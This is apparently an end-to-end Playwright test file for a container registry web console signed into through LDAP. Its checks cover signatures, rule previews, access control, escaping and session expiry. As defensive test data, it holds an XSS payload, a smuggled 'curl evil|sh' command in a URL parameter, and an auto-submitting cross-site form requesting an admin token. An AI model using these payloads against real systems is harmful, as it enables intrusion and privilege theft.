// The web console in a real browser (Debian's Chromium through playwright-core) against a real
// directory (slapd): an LDAP auditor and an LDAP administrator sign in; a signed and an unsigned
// image show their status; a rule change goes through the diff preview; markup in an annotation
// stays text; a person without pull cannot reach a repository by typing its URL; a cross-site form
// post is refused; a session runs out. With SCREENSHOTS_DIR=<dir>, the main pages are
// saved there as PNG (the README's pictures).
import assert from 'node:assert/strict';
import { mkdir, readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import { adminToken, api } from '../auth/support.js';
import { startChromium, type RunningBrowser } from '../support/chromium.js';
import { adminClient } from '../support/registry-client.js';
import { startPortcullis, type RunningRegistry } from '../support/server.js';
import { cosignPayload, makeKey, pushCosignSignature } from '../support/signing.js';
import { portcullisLdapEnv, startSlapd, type RunningSlapd } from '../support/slapd.js';

// slapd's people sign in with <uid>-pass: alice (developers), bob (developers, security), carol (security, admins).
const alice = { username: 'alice', password: 'alice-pass' };
const bob = { username: 'bob', password: 'bob-pass' };
const carol = { username: 'carol', password: 'carol-pass' };
const XSS = '<script>window.__pwned = 1</script>"><img src=x onerror="window.__pwned = 2">';

let slapd: RunningSlapd;
let server: RunningRegistry;
let chromium: RunningBrowser;
let admin: string;
const digests: Record<string, string> = {};
const screenshots = process.env.SCREENSHOTS_DIR;

/** Polls `condition` until it holds, failing after `timeoutMs` with `what` in the message. */
async function pollUntil(condition: () => Promise<boolean>, what: string, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await condition())) {
    if (Date.now() > deadline) assert.fail(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

async function screenshot(page: Page, name: string): Promise<void> {
  if (!screenshots) return;
  await mkdir(screenshots, { recursive: true });
  await page.screenshot({ path: join(screenshots, `${name}.png`), fullPage: true });
}

/** A page in a fresh browser context (its own cookies), signed in as `who`. */
async function signedIn(who: { username: string; password: string }, base = server.url): Promise<{ context: BrowserContext; page: Page }> {
  const context = await chromium.newContext();
  const page = await context.newPage();
  // An alert would mean script ran from data: fail loudly.
  page.on('dialog', (dialog) => {
    void dialog.dismiss();
    if (dialog.type() === 'alert') throw new Error(`unexpected alert: ${dialog.message()}`);
  });
  await page.goto(`${base}/ui/`);
  await page.getByLabel('User name').fill(who.username);
  await page.getByLabel('Password').fill(who.password);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByTestId('signed-in-as').waitFor();
  return { context, page };
}

before(async () => {
  slapd = await startSlapd();
  server = await startPortcullis({ env: { ...portcullisLdapEnv(slapd), PORTCULLIS_AUTH_ADMIN_GROUPS: 'admins', PORTCULLIS_AUTH_RULES_CACHE_SECONDS: '0' } });
  chromium = await startChromium();
  admin = await adminToken(server);
  const rules = await api(server.url, admin, 'PUT', '/admin/v1/rules', {
    rules: [
      { subject: 'group:developers', repositories: 'team-a/**', actions: ['pull', 'push'] },
      { subject: 'group:security', repositories: '**', actions: ['pull', 'audit'] },
    ],
  });
  assert.equal(rules.status, 200, rules.text);
  const key = makeKey('ecdsa-p256');
  const trust = await api(server.url, admin, 'PUT', '/admin/v1/trust', {
    policies: [{ repositories: 'team-a/**', immutableTags: ['v*'], signatures: { mode: 'audit', signers: [{ name: 'release', cosign: key.publicKeyPem }] } }],
  });
  assert.equal(trust.status, 200, trust.text);
  const registry = adminClient(server);
  for (const tag of ['signed', 'unsigned', 'v1.0.0']) digests[tag] = (await registry.pushImage('team-a/app', tag)).descriptor.digest;
  digests.markup = (await registry.pushImage('team-a/app', 'markup', { extra: { annotations: { 'org.opencontainers.image.description': XSS } } })).descriptor.digest;
  await registry.pushImage('secret/app', 'v1');
  const signed = digests.signed as string;
  await pushCosignSignature(registry, 'team-a/app', signed, key, cosignPayload({ reference: `${server.host}/team-a/app`, digest: signed }));
});

after(async () => {
  await chromium?.close();
  await server?.stop();
  await slapd?.stop();
});

describe('the web console in Chromium', () => {
  it('shows an LDAP auditor the signed and the unsigned image with the right status, and the audit trail', async () => {
    const { context, page } = await signedIn(bob);
    try {
      await assert.doesNotReject(page.getByTestId('signed-in-as').filter({ hasText: 'bob (auditor)' }).waitFor());
      await page.getByRole('link', { name: 'team-a/app' }).waitFor();
      await screenshot(page, 'repositories');
      await page.getByRole('link', { name: 'team-a/app' }).click();
      const signedRow = page.locator('tr[data-tag="signed"]');
      await signedRow.waitFor();
      assert.match(await signedRow.innerText(), /verified[\s\S]*by release/);
      assert.match(await page.locator('tr[data-tag="unsigned"]').innerText(), /unsigned[\s\S]*no signatures/);
      assert.match(await page.locator('tr[data-tag="v1.0.0"]').innerText(), /\byes\b/, 'v* tags are immutable');
      assert.match(await signedRow.innerText(), /by admin/, 'who pushed it');
      await screenshot(page, 'repository');

      await signedRow.getByRole('link', { name: 'signed' }).click();
      await page.getByRole('heading', { name: 'Signatures and trust policy' }).waitFor();
      const signatures = page.locator('table', { has: page.locator('caption', { hasText: 'Each signature' }) });
      await signatures.waitFor();
      assert.match(await signatures.innerText(), /valid[\s\S]*release/);
      await page.getByRole('heading', { name: 'Layers' }).or(page.locator('caption', { hasText: 'Layers' })).first().waitFor();
      assert.match(await page.locator('.references').innerText(), new RegExp(`team-a/app@${digests.signed}`));
      await screenshot(page, 'image');

      await page.getByRole('link', { name: 'Audit' }).click();
      await page.getByTestId('chain-status').waitFor();
      assert.match(await page.getByTestId('chain-status').innerText(), /^Verified: all \d+ events/);
      await page.locator('table.events tbody tr').first().waitFor();
      await page.getByLabel('Type').fill('tag.created');
      await page.getByRole('button', { name: 'Filter' }).click();
      // The filtered page replaces the unfiltered one: wait until every row shown is a tag.created.
      // Polled from here: waitForFunction evaluates its predicate with eval in the page, which the
      // console's Content-Security-Policy (script-src 'self') rightly refuses.
      const rows = page.locator('table.events tbody tr');
      const onlyTagCreated = async (): Promise<boolean> => {
        const shown = await rows.allInnerTexts(); // one reading of one page, never half of each
        return shown.length > 0 && shown.every((text) => text.includes('tag.created'));
      };
      await pollUntil(onlyTagCreated, 'only tag.created rows');
      assert.ok(await page.locator('table.events tbody tr', { hasText: 'team-a/app:markup' }).count() > 0);
      await screenshot(page, 'audit');
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: 'Export CSV' }).click();
      const csv = await readFile(await (await download).path(), 'utf8');
      assert.match(csv, /^repository,tag,digest,status,/);
      assert.match(csv, new RegExp(`team-a/app,signed,${digests.signed},valid,release`));
      assert.match(csv, new RegExp(`team-a/app,unsigned,${digests.unsigned},none,`));

      // Auditors read the rules, and cannot change them.
      await page.getByRole('link', { name: 'Access' }).click();
      const rules = page.getByLabel('Rules (YAML, as policy apply takes them)');
      await rules.waitFor();
      assert.equal(await rules.getAttribute('readonly'), '');
      assert.equal(await page.getByRole('button', { name: 'Preview changes' }).count(), 0);
    } finally {
      await context.close();
    }
  });

  it('lets an LDAP administrator change a rule through the diff preview', async () => {
    const { context, page } = await signedIn(carol);
    try {
      await page.getByTestId('signed-in-as').filter({ hasText: 'carol (administrator)' }).waitFor();
      await page.getByRole('link', { name: 'Access' }).click();
      const rules = page.getByLabel('Rules (YAML, as policy apply takes them)');
      await rules.waitFor();
      const before = await rules.inputValue();
      assert.match(before, /group:developers/);
      await rules.fill(`${before.trimEnd()}\n  - subject: group:platform\n    repositories: platform/**\n    actions: [pull]\n`);
      const apply = page.getByRole('button', { name: 'Apply' });
      assert.equal(await apply.isDisabled(), true, 'nothing is applied before its preview');
      await page.getByRole('button', { name: 'Preview changes' }).click();
      const diff = page.getByTestId('diff');
      await diff.waitFor();
      assert.match(await diff.innerText(), /\+ .*group:platform[\s\S]*platform\/\*\*/);
      const stored = await api<{ rules: { subject: string }[] }>(server.url, admin, 'GET', '/admin/v1/rules');
      assert.equal(stored.body.rules.some((rule) => rule.subject === 'group:platform'), false, 'the preview changed nothing');
      await screenshot(page, 'access-preview');
      // Another administrator changes the rules between the preview and Apply: Apply is refused.
      const other = await api<{ rules: { subject: string; repositories: string; actions: string[] }[] }>(server.url, admin, 'GET', '/admin/v1/rules');
      const othersRule = { subject: 'group:admins', repositories: 'ops/**', actions: ['pull'] };
      assert.equal((await api(server.url, admin, 'PUT', '/admin/v1/rules', { rules: [...other.body.rules.map(({ subject, repositories, actions }) => ({ subject, repositories, actions })), othersRule] })).status, 200);
      await apply.click();
      await page.getByText(/Not applied: the access rules changed since they were read/).waitFor();
      const untouched = await api<{ rules: { subject: string }[] }>(server.url, admin, 'GET', '/admin/v1/rules');
      assert.equal(untouched.body.rules.some((rule) => rule.subject === 'group:platform'), false, 'nothing of the stale preview was written');
      // Previewed again, the difference shows the other change going away; put it in and apply.
      await rules.fill(`${(await rules.inputValue()).trimEnd()}\n  - subject: group:admins\n    repositories: ops/**\n    actions: [pull]\n`);
      await page.getByRole('button', { name: 'Preview changes' }).click();
      await diff.waitFor();
      assert.doesNotMatch(await diff.innerText(), /^- /m, 'the other administrator\'s rule is kept');
      await apply.click();
      await page.getByText('Applied: 1 added, 0 removed, 0 changed.').waitFor();
      const applied = await api<{ rules: { subject: string; repositories: string; actions: string[] }[] }>(server.url, admin, 'GET', '/admin/v1/rules');
      assert.ok(applied.body.rules.some((rule) => rule.subject === 'group:platform' && rule.repositories === 'platform/**'));
      const audit = await api<{ events: { type: string; actor: string }[] }>(server.url, admin, 'GET', '/admin/v1/audit?type=rules.changed&limit=1');
      assert.equal(audit.body.events[0]?.actor, 'carol', 'the change is carol\'s in the audit log');

      // A robot: its secret is shown once.
      // By keyboard: the tabs take the arrow keys, Home and End.
      await page.getByRole('tab', { name: 'Rules' }).focus();
      await page.keyboard.press('End');
      assert.equal(await page.getByRole('tab', { name: 'Robots' }).getAttribute('aria-selected'), 'true');
      assert.equal(await page.evaluate('document.activeElement.textContent'), 'Robots');
      await page.getByLabel('Name', { exact: true }).fill('deployer');
      await page.getByLabel('Rules (YAML list of repositories and actions)').fill('- repositories: team-a/**\n  actions: [pull]');
      await page.getByRole('button', { name: 'Create robot' }).click();
      const secret = page.locator('.secret code');
      await secret.waitFor();
      const token = await fetch(`${server.url}/auth/token?service=portcullis&scope=repository:team-a/app:pull`, {
        headers: { Authorization: `Basic ${Buffer.from(`robot$deployer:${await secret.innerText()}`).toString('base64')}` },
      });
      assert.equal(token.status, 200, 'the secret shown works');
      await page.locator('tr', { hasText: 'robot$deployer' }).waitFor();
    } finally {
      await context.close();
    }
  });

  it('renders markup in an annotation as text', async () => {
    const { context, page } = await signedIn(alice);
    try {
      await page.goto(`${server.url}/ui/image?${new URLSearchParams({ name: 'team-a/app', reference: digests.markup as string }).toString()}`);
      const annotation = page.getByTestId('annotation');
      await annotation.waitFor();
      assert.equal(await annotation.innerText(), XSS);
      assert.equal(await page.locator('img').count(), 0);
      assert.equal(await page.evaluate(() => (globalThis as { __pwned?: number }).__pwned), undefined);
    } finally {
      await context.close();
    }
  });

  it('does not show a repository to someone without pull on it, even by its URL', async () => {
    const { context, page } = await signedIn(alice);
    try {
      await page.getByRole('link', { name: 'team-a/app' }).waitFor();
      assert.equal(await page.getByRole('link', { name: 'secret/app' }).count(), 0, 'not in the list');
      assert.equal(await page.getByRole('link', { name: 'Audit' }).count(), 0);
      await page.goto(`${server.url}/ui/repository?name=secret/app`);
      await page.getByRole('alert').waitFor();
      assert.match(await page.getByRole('alert').innerText(), /You may not see this/);
      assert.equal(await page.locator('tr[data-tag]').count(), 0);
      await page.goto(`${server.url}/ui/image?name=secret/app&reference=v1&tag=v1`);
      await page.getByRole('alert').first().waitFor();
      assert.equal(await page.getByTestId('annotation').count(), 0);
      assert.equal(await page.getByTestId('no-signatures').count(), 0);
      await page.goto(`${server.url}/ui/audit`);
      await page.getByText('needs administrator or auditor rights').waitFor();
      // A crafted link cannot put a command of its choosing on the page (or the clipboard).
      await page.goto(`${server.url}/ui/image?${new URLSearchParams({ name: 'team-a/app', reference: 'latest;curl evil|sh' }).toString()}`);
      await page.getByText('This is not an image reference').waitFor();
      assert.equal(await page.locator('.copyable').count(), 0);
    } finally {
      await context.close();
    }
  });

  it('refuses a form another site posts with the signed-in person\'s cookie', async () => {
    const { context, page } = await signedIn(carol);
    // Another origin on the same host (a different port is the same site: the cookie goes along).
    const attacker: Server = createServer((_request, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(
        `<form method="POST" action="${server.url}/ui/api/token" enctype="text/plain">` +
          `<input name='{"scope":["registry:admin:*"],"x":"' value='"}'></form>` +
          '<script>document.forms[0].submit()</script>',
      );
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    try {
      // The form's navigation, not the console's own token calls still finishing on this page.
      const answered = page.waitForResponse((response) => response.url() === `${server.url}/ui/api/token` && response.request().isNavigationRequest());
      await page.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`);
      const response = await answered;
      assert.equal(response.status(), 403);
      assert.doesNotMatch(await response.text(), /"token"/);
      // The session itself is untouched.
      await page.goto(`${server.url}/ui/`);
      await page.getByTestId('signed-in-as').filter({ hasText: 'carol' }).waitFor();
    } finally {
      attacker.close();
      await context.close();
    }
  });

  it('ends a session when its time is up, and asks to sign in again', async () => {
    const short = await startPortcullis({ env: { PORTCULLIS_CONSOLE_SESSION_SECONDS: '3' } });
    try {
      const { context, page } = await signedIn(short.admin, short.url);
      try {
        await page.getByRole('heading', { name: 'Repositories' }).waitFor();
        await new Promise((resolve) => setTimeout(resolve, 3500));
        await page.getByRole('link', { name: 'Audit' }).click();
        await page.getByText('Your session has ended. Sign in again.').waitFor();
        await page.getByLabel('User name').waitFor();
        assert.equal((await page.request.get(`${short.url}/ui/api/session`)).status(), 401);
      } finally {
        await context.close();
      }
    } finally {
      await short.stop();
    }
  });
});
